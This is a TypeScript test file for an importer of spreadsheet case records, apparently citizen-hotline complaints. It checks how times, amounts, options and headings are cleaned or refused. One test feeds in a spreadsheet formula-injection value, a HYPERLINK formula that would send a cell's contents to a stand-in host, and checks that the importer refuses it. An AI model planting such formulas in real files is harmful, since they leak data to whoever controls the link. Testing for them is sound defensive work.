import { describe, expect, it } from 'vitest'
import { headingRow, headingsOf, proposeMapping, sourceOf, unmapped } from '#shared/cases/importing/mapping'
import { readCase, type Fault } from '#shared/cases/importing/read'
import { twice, type Told } from '#shared/cases/importing/twice'
import type { FieldKey } from '#shared/cases/importing/fields'
import { caseSampleFiles } from '#shared/cases/importing/sample'
import { caseFile, readingFor } from '../../samples/case-files.ts'
import { caseYear } from '../../samples/cases.ts'

const sample = { rows: 400 }
const file = caseFile(sample)
const by = readingFor(file)
/** A case that has been through everything: called back, with a cost and a unit. */
const whole = file.rows.findIndex((row) => ['followedUp', 'unit', 'cost', 'longitude', 'closed'].every((key) => row[file.fields.indexOf(key)] !== '')) // prettier-ignore

const rowWith = (changes: Partial<Record<FieldKey, string>>): string[] =>
  (file.rows[whole] ?? []).map((text, column) => changes[file.fields[column] ?? ''] ?? text)

const read = (cells: readonly string[], count = cells.length) => readCase({ at: 2, cells, count }, by)

const cellsOf = (cells: readonly string[]) => {
  const found = read(cells)
  return 'row' in found ? { ...found.row.cells, ...found.row.person } : found.faults
}

const faultsOf = (cells: readonly string[], count?: number): Fault[] => {
  const found = read(cells, count)
  return 'faults' in found ? found.faults : []
}

it('reads a year that another program wrote as it was kept', () => {
  const kept = caseYear(sample)
  file.rows.forEach((row, nth) => {
    const { takenBy: _, ...cells } = kept[nth]?.cells ?? {}
    const found = read(row)
    expect('row' in found ? found.row.cells : found.faults).toEqual(cells)
  })
})

describe('what is mended', () => {
  it.each([
    [
      'another way of writing a time',
      { closed: '2026年3月5日 9时5分', followedUp: '2026/3/6 10:00' },
      'closed',
      '2026-03-05T01:05:00.000Z',
    ],
    [
      'a serial number of a spreadsheet',
      { closed: '46086.378472', followedUp: '2026-03-06 10:00' },
      'closed',
      '2026-03-05T01:05:00.000Z',
    ],
    ['full width in a number', { grid: '４２０１０２１００１００３' }, 'grid', '4201021001003'],
    ['a number with outer and invisible characters', { number: ' 　SQ\u200b1\u00a0' }, 'number', 'SQ1'],
    ['a unit in outer spaces', { channel: '\t12345市民服务热线　' }, 'channel', 'hotline'],
    ['an amount with its sign and thousands', { cost: '￥1,234.50' }, 'cost', 123_450],
    ['an amount in another unit', { cost: '0.1万' }, 'cost', 100_000],
    ['a flag in another word', { onTime: 'TRUE' }, 'onTime', true],
    ['line breaks of a long text', { text: '一行\r\n"二行"' }, 'text', '一行\n"二行"'],
  ])('%s', (_, changes, key, cell) => {
    const early = { received: '2026-03-01 08:00', registered: '2026-03-01 09:00', dispatched: '2026-03-01 10:00', due: '2026-03-09 10:00', closed: '2026-03-04 10:00', followedUp: '2026-03-06 10:00' } // prettier-ignore
    expect(cellsOf(rowWith({ ...early, ...changes }))).toHaveProperty([key], cell)
  })
})

it('takes a word for nothing as a blank', () => {
  expect(cellsOf(rowWith({ note: '无', grid: '-' }))).not.toHaveProperty('note')
})

describe('what is refused, by column and reason', () => {
  it.each([
    ['a day that no calendar has', { received: '2026-02-30 10:00:00' }, 'received', 'cell/not-a-day'],
    ['a time in words', { closed: '昨天下午' }, 'closed', 'cell/not-a-day'],
    ['a year of two digits', { closed: '26-03-05 09:05' }, 'closed', 'cell/ambiguous-day'],
    ['a year that is a slip', { received: '2012-07-09 08:00' }, 'registered', 'case/far-apart'],
    ['times in the wrong order', { closed: '2020-01-01 08:00' }, 'closed', 'case/times-out-of-order'],
    ['two units in one cell', { unit: '示例区城管执法局、示例区住建局' }, 'unit', 'cell/unknown-option'],
    ['an unknown channel', { channel: '热线电话线' }, 'channel', 'cell/unknown-option'],
    ['an unknown state', { state: '办结' }, 'state', 'cell/unknown-option'],
    ['a remark in an option', { satisfaction: '满意 5分' }, 'satisfaction', 'cell/unknown-option'],
    ['a number that lost a sign in another encoding', { number: 'M?H20210601001861' }, 'number', 'cell/malformed'],
    ['a telephone number that lost one', { phone: '154\ufffd10625773' }, 'phone', 'cell/malformed'],
    ['no number', { number: '-' }, 'number', 'cell/required'],
    ['no state', { state: 'NULL' }, 'state', 'cell/required'],
    ['no first level', { subjectOne: '#N/A' }, 'subjectOne', 'cell/required'],
    ['an amount about so much', { cost: '约500' }, 'cost', 'cell/not-an-amount'],
    ['an amount as a power', { cost: '1e9' }, 'cost', 'cell/not-an-amount'],
    ['a negative cost', { cost: '-20' }, 'cost', 'case/cost-below-zero'],
    [
      'longitude and latitude swapped',
      { longitude: '30.595240', latitude: '114.297998' },
      'longitude',
      'case/off-the-map',
    ],
    ['degrees in minutes', { longitude: '114°18\'22"' }, 'longitude', 'cell/malformed'],
    ['half a point', { latitude: '' }, 'longitude', 'case/missing'],
    [
      'a text that a spreadsheet would run',
      { title: '=HYPERLINK("http://127.0.0.1/x?"&A1,"查看")' },
      'title',
      'import/formula',
    ],
    ['a name that a spreadsheet would run', { name: '@SUM(1,2)' }, 'name', 'import/formula'],
    ['a text of 40,000 characters', { text: '字'.repeat(40_000) }, 'text', 'cell/too-long'],
  ] as const)('%s', (_, changes, field, code) => {
    const faults = faultsOf(rowWith(changes))
    expect(faults).toContainEqual(expect.objectContaining({ at: 2, field, because: expect.objectContaining({ code }) }))
    expect(faults.find((fault) => fault.field === field)?.column).toBe(file.fields.indexOf(field) + 1)
  })

  it('a formula without a result, whatever it would give', () => {
    const cells = rowWith({}).map((text, column) =>
      file.fields[column] === 'note' ? ({ formula: true } as const) : text,
    )
    expect(readCase({ at: 2, cells }, by)).toMatchObject({
      faults: [{ field: 'note', because: { code: 'import/formula' } }],
    })
  })

  it('all of it at once, so that a row is mended once', () => {
    const faults = faultsOf(rowWith({ channel: '热线电话线', cost: '约500', received: '2026-02-30' }))
    expect(faults.map(({ field }) => field).sort()).toEqual(['channel', 'cost', 'received'])
  })

  it('a row with too many cells or, in a file that counts them, too few', () => {
    expect(faultsOf([...rowWith({}), '多余', '列'])).toMatchObject([
      { column: 0, because: { code: 'import/extra-cells' } },
    ])
    expect(faultsOf(rowWith({}).slice(0, 12))).toMatchObject([{ column: 0, because: { code: 'import/missing-cells', facts: { found: 12 } } }]) // prettier-ignore
  })

  it('the second row of a number, telling whether both say the same', () => {
    const told: Told = new Map()
    const rows = [rowWith({}), rowWith({}), rowWith({ note: '另一句' })].map((cells, nth) =>
      readCase({ at: nth + 2, cells }, by),
    )
    const faults = rows.flatMap((found) => ('row' in found ? (twice(found.row, told, 0) ?? []) : []))
    expect(faults.map(({ because }) => because.facts)).toEqual([
      { row: 2, same: true },
      { row: 2, same: false },
    ])
  })
})

describe('headings', () => {
  const other = [
    '案件号',
    '来源',
    '类型',
    '反映内容',
    '来电人',
    '来电号码',
    '街道',
    '承办单位',
    '受理日期',
    '办结时间',
    '处置费用（元）',
    '别的',
  ]
  const at = (row: number, cells: string[]) => ({ at: row, cells })

  it('are found below titles, and known by the names that others give them', () => {
    const first = [
      at(1, ['2026年度群众诉求台账']),
      at(2, ['制表单位：指挥中心', '', '单位：件']),
      at(3, other),
      at(4, rowWith({})),
    ]
    expect(headingRow(first)).toBe(2)
    expect(proposeMapping(headingsOf(at(3, other)))).toEqual([
      'number', 'channel', 'type', 'text', 'name', 'phone', 'street', 'unit', 'received', 'closed', 'cost', null,
    ]) // prettier-ignore
  })

  it('name each field once, and say which every case needs and none names', () => {
    const mapping = proposeMapping(['编号', '案件号', '状态', '受理时间'])
    expect(mapping).toEqual(['number', null, 'state', 'received'])
    expect(unmapped(mapping)).toEqual(['channel', 'type', 'urgency', 'title', 'subjectOne', 'repeated'])
  })

  it('of a file without any are not guessed', () => {
    expect(headingRow([at(1, ['甲', '乙']), at(2, rowWith({}))])).toBeUndefined()
  })

  it('that were matched by hand before are matched so again', () => {
    const remembered = other.map((_, column) => (column === 11 ? 'note' : null))
    expect(proposeMapping(other, remembered)).toBe(remembered)
    expect(proposeMapping(other.slice(1), remembered)).not.toBe(remembered)
    expect(sourceOf(other)).toBe(sourceOf(other.map((heading) => ` ${heading}　`)))
  })
})

describe('the sample file', () => {
  it.each(['zh', 'en'] as const)('in %s has three rows that are taken and two that show a refusal', (language) => {
    const { headings, rows } = caseSampleFiles[language]
    const mapping = proposeMapping(headings)
    expect([unmapped(mapping), mapping.includes(null)]).toEqual([[], false])
    const read = rows.map((cells, nth) => readCase({ at: nth + 2, cells }, { ...by, mapping, width: headings.length }))
    expect(read.map((found) => ('row' in found ? 'taken' : found.faults.map(({ because }) => because.code)))).toEqual([
      'taken',
      'taken',
      'taken',
      ['cell/not-a-day'],
      ['cell/unknown-option', 'cell/not-an-amount'],
    ])
  })
})
